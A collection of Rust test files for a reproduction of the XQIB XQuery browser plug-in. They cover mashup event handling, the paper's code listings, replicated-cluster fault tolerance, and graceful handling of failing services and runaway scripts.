    let mut plugin = Plugin::new(PluginConfig::default());
    // the horizontally integrated services
    {
        let mut host = plugin.host.borrow_mut();
        for (name, kind) in [
            ("weather-a", "sunny"),
            ("weather-b", "rainy"),
            ("weather-c", "cloudy"),
        ] {
            let prefix = format!("http://{name}.example");
            let kind = kind.to_string();
            host.net.register(&prefix, 20, move |req| {
                let loc = req.query_param("q").unwrap_or_default();
                Response::ok(format!(
                    "<weather><summary>{kind} in {loc}</summary></weather>"
                ))
            });
        }
        host.net.register("http://webcams.example", 30, |req| {
            let loc = req.query_param("q").unwrap_or_default();
            Response::ok(format!(
                "<cams><cam url=\"http://webcams.example/{loc}/1.jpg\"/>\
                 <cam url=\"http://webcams.example/{loc}/2.jpg\"/></cams>"
            ))
        });
    }

    // load the page; XQuery scripts run, JS sources come back for the
    // co-existing engine (JavaScript executes first, §4.1)
    let js_sources = plugin.load_page(MASHUP_PAGE).unwrap();
    assert_eq!(js_sources.len(), 1);

    let engine = Rc::new(RefCell::new(JsEngine::new(
        plugin.store.clone(),
        plugin.page_doc(),
    )));
    engine.borrow_mut().run(&js_sources[0]).unwrap();

    // bind the JS listener registrations onto the shared event system
    let regs = engine.borrow_mut().take_registrations();
    for (target, event_type, f) in regs {
        let engine = engine.clone();
        plugin.register_external_listener(target, &event_type, move |ev| {
            engine
                .borrow_mut()
                .dispatch_to(&f, &ev.event_type, ev.target, ev.button)
                .expect("JS listener runs");
        });
    }
    (plugin, engine)
}

#[test]
fn both_languages_handle_the_same_event() {
    let (mut plugin, _engine) = setup();
    // the user types a location and clicks search
    let searchbox = plugin.element_by_id("searchbox").unwrap();
    {
        let mut store = plugin.store.borrow_mut();
        store
            .doc_mut(searchbox.doc)
            .set_attribute(searchbox.node, xqib::dom::QName::local("value"), "Madrid")
            .unwrap();
    }
    let button = plugin.element_by_id("searchbutton").unwrap();
    plugin.click(button).unwrap();

    let page = plugin.serialize_page();
    // JavaScript drew the map…
    assert!(page.contains("[map of Madrid]"), "{page}");
    assert!(page.contains("data-location=\"Madrid\""));
    // …and XQuery integrated the three weather services…
    assert!(page.contains("sunny in Madrid"));
    assert!(page.contains("rainy in Madrid"));
    assert!(page.contains("cloudy in Madrid"));
    // …and the webcams
    assert!(page.contains("http://webcams.example/Madrid/1.jpg"));
    assert!(page.contains("http://webcams.example/Madrid/2.jpg"));
}

#[test]
fn service_fanout_counts() {
    let (mut plugin, _engine) = setup();
    let button = plugin.element_by_id("searchbutton").unwrap();
    plugin.click(button).unwrap();
    let stats = plugin.host.borrow().net.stats.clone();
    assert_eq!(stats.requests, 4, "3 weather services + 1 webcam index");
    assert_eq!(stats.per_host.len(), 4);
}

#[test]
fn second_search_replaces_forecasts() {
    let (mut plugin, _engine) = setup();
    let searchbox = plugin.element_by_id("searchbox").unwrap();
    let button = plugin.element_by_id("searchbutton").unwrap();
    for city in ["Madrid", "Zurich"] {
        let mut store = plugin.store.borrow_mut();
        store
            .doc_mut(searchbox.doc)
            .set_attribute(searchbox.node, xqib::dom::QName::local("value"), city)
            .unwrap();
        drop(store);
        plugin.click(button).unwrap();
    }
    let page = plugin.serialize_page();
    assert!(page.contains("sunny in Zurich"));
    assert!(
        !page.contains("sunny in Madrid"),
        "old forecasts replaced: {page}"
    );
    // the JS map panel appends (it has no replace logic) — both maps exist,
    // evidence that both listeners ran on both clicks
    assert!(page.contains("[map of Madrid]"));
    assert!(page.contains("[map of Zurich]"));
}
