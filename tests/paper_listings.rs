//! Experiment E7: every runnable listing in the paper, executed verbatim
//! (or with the documented minimal adaptation) against the reproduction.
//! Section numbers refer to the WWW 2009 camera-ready.

use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::core::samples;
use xqib::dom::QName;

fn plugin() -> Plugin {
    Plugin::new(PluginConfig::default())
}

// ----- §2.2: embedded XPath in JavaScript -------------------------------------

#[test]
fn s22_xpath_in_javascript() {
    use xqib::minijs::JsEngine;
    let store = xqib_dom::store::shared_store();
    let doc =
        xqib_dom::parse_document(r#"<html><body><div>all you need is love</div></body></html>"#)
            .unwrap();
    let id = store.borrow_mut().add_document(doc, None);
    let mut js = JsEngine::new(store.clone(), id);
    js.run(
        r#"var allDivs = document.evaluate("//div[contains(., 'love')]",
            document, null, 7, null);
        if (allDivs.snapshotLength > 0) {
            var newElement = document.createElement('img');
            newElement.setAttribute('src', 'http://x/heart.gif');
            document.body.insertBefore(newElement, document.body.firstChild);
        }"#,
    )
    .unwrap();
    let page = {
        let s = store.borrow();
        xqib_dom::serialize::serialize_document(s.doc(id))
    };
    assert!(page.contains("heart.gif"));
}

// ----- §3.1: FLWOR and full-text ----------------------------------------------

#[test]
fn s31_flwor_payment_orders() {
    let mut p = plugin();
    p.host
        .borrow_mut()
        .net
        .register("http://db.example/", 5, |_| {
            Response::ok(
                "<paymentorder>\
             <paymentorders><name>home computer</name><price>1200</price></paymentorders>\
             <paymentorders><name>desk</name><price>300</price></paymentorders>\
             </paymentorder>",
            )
        });
    p.load_page("<html><body/></html>").unwrap();
    p.eval("browser:httpGet('http://db.example/bill.xml')")
        .unwrap();
    let out = p
        .eval(
            r#"for $x at $i in doc("http://db.example/bill.xml")/paymentorder/paymentorders
               let $price := $x/price
               where $x/name ftcontains "computer"
               return <li>{$x/name}<eur>{data($price)}</eur></li>"#,
        )
        .unwrap();
    assert_eq!(
        p.render(&out),
        "<li><name>home computer</name><eur>1200</eur></li>"
    );
}

#[test]
fn s31_fulltext_stemming() {
    let mut p = plugin();
    p.host
        .borrow_mut()
        .net
        .register("http://db.example/", 5, |_| {
            Response::ok(
                "<books>\
             <book><title>Dogs and a cat</title><author>Ann</author></book>\
             <book><title>The lonely cat</title><author>Bob</author></book>\
             </books>",
            )
        });
    p.load_page("<html><body/></html>").unwrap();
    p.eval("browser:httpGet('http://db.example/books.xml')")
        .unwrap();
    let out = p
        .eval(
            r#"for $b in doc("http://db.example/books.xml")/books/book
               where $b/title ftcontains ("dog" with stemming) ftand "cat"
               return $b/author/text()"#,
        )
        .unwrap();
    assert_eq!(p.render(&out), "Ann");
}

// ----- §4.2.1: window examples --------------------------------------------------

fn plugin_with_two_frames() -> Plugin {
    let mut p = plugin();
    {
        let mut host = p.host.borrow_mut();
        let top = host.browser.top();
        host.browser
            .create_frame(top, "leftframe", "http://www.xqib.org/left");
        host.browser
            .create_frame(top, "child2", "http://www.xqib.org/right");
    }
    p.load_page("<html><body/></html>").unwrap();
    p
}

#[test]
fn s421_find_leftframe() {
    let mut p = plugin_with_two_frames();
    // browser:top()//window[@name="leftframe"]
    let out = p
        .eval(r#"count(browser:top()//window[@name="leftframe"])"#)
        .unwrap();
    assert_eq!(p.render(&out), "1");
}

#[test]
fn s421_change_status() {
    let mut p = plugin_with_two_frames();
    // replace value of node browser:self()/status with "Welcome"
    p.eval(r#"replace value of node browser:self()/status with "Welcome""#)
        .unwrap();
    let host = p.host.borrow();
    assert_eq!(host.browser.window(host.page_window).status, "Welcome");
}

#[test]
fn s421_declare_win_variable_and_navigate() {
    let mut p = plugin_with_two_frames();
    // declare variable $win := browser:self()/frames/window[2];
    // replace value of node $win/location/href with "http://www.dbis.ethz.ch"
    p.eval(
        r#"{ declare variable $win := browser:self()/frames/window[2];
             replace value of node $win/location/href
             with "http://www.dbis.ethz.ch";
             1 }"#,
    )
    .unwrap();
    let host = p.host.borrow();
    let w = host.browser.find_by_name("child2").unwrap();
    assert_eq!(
        host.browser.window(w).location.href,
        "http://www.dbis.ethz.ch"
    );
}

#[test]
fn s421_last_modified_alert() {
    let mut p = plugin_with_two_frames();
    // browser:alert($win/lastModified)
    p.eval(
        r#"{ declare variable $win := browser:self()/frames/window[1];
             browser:alert($win/lastModified); 1 }"#,
    )
    .unwrap();
    assert_eq!(p.alerts(), vec!["2009-04-20T08:00:00".to_string()]);
}

// ----- §4.2.2: screen & navigator ------------------------------------------------

#[test]
fn s422_screen_and_navigator_properties() {
    let mut p = plugin();
    p.load_page("<html><body/></html>").unwrap();
    let out = p.eval("string(browser:navigator()/appName)").unwrap();
    assert_eq!(p.render(&out), "Microsoft Internet Explorer");
    let out = p.eval("string(browser:screen()/height)").unwrap();
    assert_eq!(p.render(&out), "1024");
}

// ----- §4.2.3: the document is the context item ---------------------------------

#[test]
fn s423_context_item_is_the_document() {
    let mut p = plugin();
    p.load_page("<html><body><div>a</div><div>b</div></body></html>")
        .unwrap();
    // `//div` works directly: the context item is the page document
    let out = p.eval("count(//div)").unwrap();
    assert_eq!(p.render(&out), "2");
    // and images of a child window via browser:document(...)
    let out = p
        .eval("count(browser:document(browser:self()/frames/*[2])//img)")
        .unwrap();
    assert_eq!(p.render(&out), "0", "no frames: empty, not an error");
}

// ----- §4.3.2: event node properties -----------------------------------------------

#[test]
fn s432_listener_branches_on_button() {
    let mut p = plugin();
    p.load_page(
        r#"<html><head><script type="text/xquery"><![CDATA[
        declare updating function local:listener($evt, $obj) {
            if ($evt/button = 1)
            then insert node <p>left-click</p> into //body[1]
            else insert node <p>other-click</p> into //body[1]
        };
        on event "onclick" at //input[@name="submit"] attach listener local:listener
        ]]></script></head>
        <body><input name="submit" id="s"/></body></html>"#,
    )
    .unwrap();
    let s = p.element_by_id("s").unwrap();
    p.dispatch(&xqib::browser::events::DomEvent::new("onclick", s).with_button(2))
        .unwrap();
    assert!(p.serialize_page().contains("other-click"));
}

// ----- §4.5: CSS ---------------------------------------------------------------------

#[test]
fn s45_set_and_get_style() {
    let mut p = plugin();
    p.load_page(r#"<html><body><table id="thistable"/></body></html>"#)
        .unwrap();
    p.eval(r#"set style "border-margin" of //table[@id="thistable"] to "2px""#)
        .unwrap();
    let out = p
        .eval(r#"get style "border-margin" of //table[@id="thistable"]"#)
        .unwrap();
    assert_eq!(p.render(&out), "2px");
    // the scripting-block variant of the paper's listing
    p.eval(
        r#"{ declare variable $mystring as xs:string := "";
             set $mystring := get style "border-margin"
                              of //table[@id="thistable"];
             browser:alert($mystring) }"#,
    )
    .unwrap();
    assert_eq!(p.alerts(), vec!["2px".to_string()]);
}

// ----- §4.1: Hello World -----------------------------------------------------------

#[test]
fn s41_hello_world() {
    let mut p = plugin();
    p.load_page(samples::HELLO_WORLD).unwrap();
    assert_eq!(p.alerts(), vec!["Hello, World!".to_string()]);
}

// ----- §3.3: the scripting block listing --------------------------------------------

#[test]
fn s33_scripting_block() {
    let mut p = plugin();
    p.host
        .borrow_mut()
        .net
        .register("http://db.example/", 5, |req| {
            if req.url.contains("src") {
                Response::ok("<catalog><book><title>starwars</title></book></catalog>")
            } else {
                Response::ok("<books/>")
            }
        });
    p.load_page("<html><body/></html>").unwrap();
    p.eval("browser:httpGet('http://db.example/src.xml'), browser:httpGet('http://db.example/lib.xml')")
        .unwrap();
    p.eval(
        r#"{ declare variable $b;
             set $b := doc("http://db.example/src.xml")//book[title="starwars"];
             insert node $b into doc("http://db.example/lib.xml")/books;
             set $b := doc("http://db.example/lib.xml")//book[title="starwars"];
             insert node <comment>6 movies</comment> into $b; }"#,
    )
    .unwrap();
    let out = p
        .eval("string(doc('http://db.example/lib.xml')//book/comment)")
        .unwrap();
    assert_eq!(p.render(&out), "6 movies");
}

// ----- §6.3: the XQuery-only application ----------------------------------------------

#[test]
fn s63_shopping_cart_xquery_only() {
    let mut p = plugin();
    p.host
        .borrow_mut()
        .net
        .register("http://shop.example/", 10, |_| {
            Response::ok(
                "<products><product><name>Computer</name><price>999</price></product></products>",
            )
        });
    p.load_page(samples::SHOPPING_CART_XQUERY).unwrap();
    let btn = p.element_by_id("Computer").unwrap();
    p.click(btn).unwrap();
    assert!(p
        .serialize_page()
        .contains("<div id=\"shoppingcart\"><p>Computer</p></div>"));
}

// ----- misc: attribute value updates keep working after events -------------------------

#[test]
fn repeated_event_rounds_stay_consistent() {
    let mut p = plugin();
    p.load_page(
        r#"<html><head><script type="text/xquery"><![CDATA[
        declare updating function local:inc($evt, $obj) {
            replace value of node //span[@id="n"]
            with (number(//span[@id="n"]) + 1)
        };
        on event "onclick" at //input attach listener local:inc
        ]]></script></head>
        <body><input id="b"/><span id="n">0</span></body></html>"#,
    )
    .unwrap();
    let b = p.element_by_id("b").unwrap();
    for _ in 0..5 {
        p.click(b).unwrap();
    }
    assert!(p.serialize_page().contains("<span id=\"n\">5</span>"));
}

use xqib::dom as xqib_dom;

// silence the unused import lint for QName used in helper-style tests
#[allow(dead_code)]
fn _unused(_q: QName) {}
