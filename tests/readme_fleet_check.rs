//! Keeps the README "browser fleet" example honest: this is the snippet
//! from README.md, verbatim, as a regression test.

use xqib::appserver::{run_fleet, FleetConfig};

#[test]
fn readme_fleet_example() {
    // the full chaos menu — lossy links, failing seat disks, a replication
    // partition, two mid-run leader crashes — over a mixed fleet of real
    // XQIB browsers running the paper's §6 scenario pages
    let (report, _cluster) = run_fleet(&FleetConfig::chaotic(7)).unwrap();

    // no acked cart op is ever lost across failover…
    assert_eq!(report.missing_acked, vec![]);
    // …every fetch yields exactly one observable outcome per client…
    assert_eq!(report.outcome_mismatches, vec![]);
    // …and once chaos clears, every degraded render converges
    assert!(report.converged);

    // §6.1's offload claim, measured: repeat whole-document visits are
    // client-cache hits, so the origin sees a fraction of the fetches
    assert!(report.totals.origin_requests < report.totals.behind_calls);

    // the whole run is bit-identical given the seed
    let (again, _cluster) = run_fleet(&FleetConfig::chaotic(7)).unwrap();
    assert_eq!(report, again);
}
