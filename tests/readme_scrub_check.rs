//! Keeps the README "end-to-end integrity" example honest: this is the
//! snippet from README.md, verbatim, as a regression test.

use xqib::appserver::{Cluster, ClusterConfig, ClusterOutcome, Submitted};
use xqib::storage::StorageFaultPlan;

#[test]
fn readme_scrub_example() {
    // a replicated shard whose disks suffer silent bit rot: 20‰ of
    // at-rest synced sectors flip per 100ms decay period — corruption
    // appears without any crash, which is what scrubbing exists to catch
    let mut cluster = Cluster::new(ClusterConfig {
        shards: 1,
        followers: 2,
        ack_replicas: 1,
        disk_fault: Some(
            StorageFaultPlan::seeded(9)
                .with_decay_permille(20)
                .with_decay_period_ms(100),
        ),
        ..ClusterConfig::default()
    });
    cluster.load("news.xml", "<root/>").unwrap();

    let url = r#"/update?xq=insert node <m id="scoop"/> into doc("news.xml")/*"#;
    let id = match cluster.submit(url, 0) {
        Submitted::Pending(id) => id,
        Submitted::Done(_) => unreachable!(),
    };
    let mut now = 0;
    loop {
        now += 1;
        if let Some(done) = cluster.advance(now).pop() {
            assert_eq!(done.id, id);
            assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
            break;
        }
    }

    // let the virtual clock run: decay rots sectors while the
    // anti-entropy scrubber (every 250ms) probes each replica's WAL and
    // checkpoint slots, cross-checks content digests sealed at journal
    // time, and repairs — re-checkpoint from verified memory, or wipe and
    // resync from a leader snapshot — before readmitting a seat
    for t in now..now + 5_000 {
        let _ = cluster.advance(t);
    }
    let ist = cluster.integrity_stats();
    assert!(ist.decay_sweeps > 0 && ist.sectors_decayed > 0);
    assert!(ist.scrub_cycles >= 19);
    assert!(ist.repairs_started > 0, "this seed rots a replica's log");
    assert!(ist.repairs_verified > 0); // readmission only after digests match

    // the counters surface on /metrics…
    let done = match cluster.submit("/metrics", now + 5_000) {
        Submitted::Done(d) => d,
        Submitted::Pending(_) => unreachable!(),
    };
    assert!(done.response.body.contains("<scrub-cycles>"));

    // …and after all that rot, a failover still loses nothing
    cluster.crash_leader(0, now + 5_000);
    let (_, _) = cluster.quiesce(now + 5_000);
    assert!(cluster.has_leader(0));
    assert!(cluster.contains("news.xml", "scoop"));
}
