//! Failure injection: services that error, malformed responses, runaway
//! scripts — the plug-in must surface clean XQuery errors, never corrupt
//! the page or wedge the loop.

use xqib::browser::net::Response;
use xqib::core::plugin::{Plugin, PluginConfig};
use xqib::dom::QName;

fn plugin() -> Plugin {
    let mut p = Plugin::new(PluginConfig::default());
    p.load_page("<html><body><input id=\"b\"/><div id=\"out\"/></body></html>")
        .unwrap();
    p
}

#[test]
fn service_500_surfaces_as_error_and_page_is_untouched() {
    let mut p = plugin();
    p.host
        .borrow_mut()
        .net
        .register("http://flaky.example/", 5, |_| Response {
            status: 500,
            body: "<error>boom</error>".to_string(),
            content_type: "application/xml".to_string(),
        });
    let before = p.serialize_page();
    let e = p
        .eval("insert node browser:httpGet('http://flaky.example/x') into //div[@id='out']")
        .unwrap_err();
    assert_eq!(e.code, "XQIB0007");
    assert_eq!(
        p.serialize_page(),
        before,
        "failed fetch left no partial update"
    );
}

#[test]
fn unroutable_host_is_a_clean_error() {
    let mut p = plugin();
    let e = p
        .eval("browser:httpGet('http://no-such-host.example/')")
        .unwrap_err();
    assert_eq!(e.code, "XQIB0007");
}

#[test]
fn malformed_xml_response_is_a_clean_error() {
    let mut p = plugin();
    p.host
        .borrow_mut()
        .net
        .register("http://bad.example/", 5, |_| {
            Response::ok("<unclosed><tags")
        });
    let e = p
        .eval("browser:httpGet('http://bad.example/x')")
        .unwrap_err();
    assert_eq!(e.code, "XQIB0007");
    // a later, well-formed fetch from the same host still works
    p.host
        .borrow_mut()
        .net
        .register("http://bad.example/good", 5, |_| Response::ok("<fine/>"));
    let out = p
        .eval("count(browser:httpGet('http://bad.example/good'))")
        .unwrap();
    assert_eq!(p.render(&out), "1");
}

#[test]
fn failing_listener_does_not_break_subsequent_dispatch() {
    let mut p = Plugin::new(PluginConfig::default());
    p.load_page(
        r#"<html><head><script type="text/xquery"><![CDATA[
        declare updating function local:maybe($evt, $obj) {
            if (//input[@id="b"]/@data-bomb = "1")
            then error("APPBOOM", "listener exploded")
            else insert node <p>ok</p> into //body[1]
        };
        on event "onclick" at //input attach listener local:maybe
        ]]></script></head><body><input id="b"/></body></html>"#,
    )
    .unwrap();
    let b = p.element_by_id("b").unwrap();
    // arm the bomb
    p.store
        .borrow_mut()
        .doc_mut(b.doc)
        .set_attribute(b.node, QName::local("data-bomb"), "1")
        .unwrap();
    // the error is contained at the dispatch boundary, not propagated
    p.click(b).unwrap();
    assert_eq!(p.host.borrow().quarantine.stats.listener_errors, 1);
    assert!(
        !p.serialize_page().contains("<p>ok</p>"),
        "failed listener applied nothing"
    );
    // disarm; the loop keeps working
    p.store
        .borrow_mut()
        .doc_mut(b.doc)
        .set_attribute(b.node, QName::local("data-bomb"), "0")
        .unwrap();
    p.click(b).unwrap();
    assert!(p.serialize_page().contains("<p>ok</p>"));
}

#[test]
fn runaway_while_loop_is_guarded() {
    let mut p = plugin();
    p.ctx.loop_guard = 10_000; // keep the test fast; default is 10M
    let e = p
        .eval("{ declare variable $i := 0; while (1 = 1) { set $i := $i + 1; }; $i }")
        .unwrap_err();
    assert_eq!(e.code, "XQSE0001", "iteration guard trips, no hang");
}

#[test]
fn runaway_recursion_is_guarded() {
    let mut p = plugin();
    let e = p
        .eval("declare function local:f($x) { local:f($x + 1) }; local:f(0)")
        .unwrap_err();
    assert_eq!(e.code, "XQDY0130");
    // the engine is still usable afterwards
    let out = p.eval("1 + 1").unwrap();
    assert_eq!(p.render(&out), "2");
}

#[test]
fn conflicting_updates_from_one_listener_are_rejected_atomically() {
    let mut p = Plugin::new(PluginConfig::default());
    p.load_page(
        r#"<html><head><script type="text/xquery"><![CDATA[
        declare updating function local:conflict($evt, $obj) {
            replace value of node //div[@id="out"] with "a",
            replace value of node //div[@id="out"] with "b"
        };
        on event "onclick" at //input attach listener local:conflict
        ]]></script></head><body><input id="b"/><div id="out">orig</div></body></html>"#,
    )
    .unwrap();
    let b = p.element_by_id("b").unwrap();
    // the XUDY0017 conflict is contained; the page is untouched either way
    p.click(b).unwrap();
    assert_eq!(p.host.borrow().quarantine.stats.listener_errors, 1);
    assert!(
        p.serialize_page().contains("<div id=\"out\">orig</div>"),
        "neither replacement applied"
    );
    // the contained failure is visible through the introspection function
    let out = p
        .eval("browser:listenerStatus()/@listener-errors/string()")
        .unwrap();
    assert_eq!(p.render(&out), "1");
}

#[test]
fn deleted_listener_target_keeps_loop_sane() {
    // delete the button from inside its own click handler, then click the
    // detached node again: the listener still fires (the node is alive,
    // merely detached), and nothing crashes
    let mut p = Plugin::new(PluginConfig::default());
    p.load_page(
        r#"<html><head><script type="text/xquery"><![CDATA[
        declare updating function local:selfdestruct($evt, $obj) {
            insert node <p>boom</p> into //body[1],
            delete node $obj
        };
        on event "onclick" at //input attach listener local:selfdestruct
        ]]></script></head><body><input id="b"/></body></html>"#,
    )
    .unwrap();
    let b = p.element_by_id("b").unwrap();
    p.click(b).unwrap();
    assert!(p.serialize_page().contains("<p>boom</p>"));
    assert!(
        p.element_by_id("b").is_none(),
        "button removed from the page"
    );
    // second click on the detached node: handler runs, inserting again is
    // fine; the delete is a no-op
    p.click(b).unwrap();
    assert_eq!(p.serialize_page().matches("<p>boom</p>").count(), 2);
}

#[test]
fn empty_and_whitespace_scripts_are_rejected_cleanly() {
    let mut p = Plugin::new(PluginConfig::default());
    let e = p
        .load_page("<html><head><script type=\"text/xquery\">   </script></head><body/></html>")
        .unwrap_err();
    assert_eq!(e.code, "XPST0003");
}

#[test]
fn malformed_page_is_rejected_cleanly() {
    let mut p = Plugin::new(PluginConfig::default());
    let e = p.load_page("<html><body>").unwrap_err();
    assert_eq!(e.code, "XQIB0004");
}
