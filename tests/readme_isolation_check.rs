//! Keeps the README "listener isolation" example honest: this is the
//! snippet from README.md, verbatim, as a regression test.

use xqib::core::plugin::{Plugin, PluginConfig};

#[test]
fn readme_isolation_example() {
    let mut plugin = Plugin::new(PluginConfig::default());
    plugin
        .load_page(
            r#"<html><head><script type="text/xquery"><![CDATA[
  declare updating function local:bad($evt, $obj) {
    error("APPBOOM", "listener exploded")
  };
  declare updating function local:good($evt, $obj) {
    insert node <p>still here</p> into //body[1]
  };
  on event "onclick" at //input attach listener local:bad,
  on event "onclick" at //input attach listener local:good
]]></script></head><body><input id="b"/></body></html>"#,
        )
        .unwrap();

    let button = plugin.element_by_id("b").unwrap();
    plugin.register_external_listener(button, "onclick", |_| panic!("bomb"));

    plugin.click(button).unwrap();
    assert!(
        plugin.serialize_page().contains("<p>still here</p>"),
        "{}",
        plugin.serialize_page()
    );

    let out = plugin
        .eval(
            r#"string-join((
    string(browser:listenerStatus()/@listener-errors),
    string(browser:listenerStatus()/@listener-panics)), "/")"#,
        )
        .unwrap();
    assert_eq!(plugin.render(&out), "1/1");
}
